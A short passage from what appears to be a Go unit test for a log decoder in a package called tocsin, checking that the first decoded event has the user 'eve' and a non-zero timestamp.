	}
	var first *tocsin.Event
	f.New(Options{}).Decode(&tocsin.Record{Source: "x", Data: []byte(in), Line: 1}, func(e *tocsin.Event) {
		if first == nil {
			first = e.Clone()
		}
	})
	if first.Text("user") != "eve" || first.Time.IsZero() {
		t.Errorf("%s", show(first))
	}
}
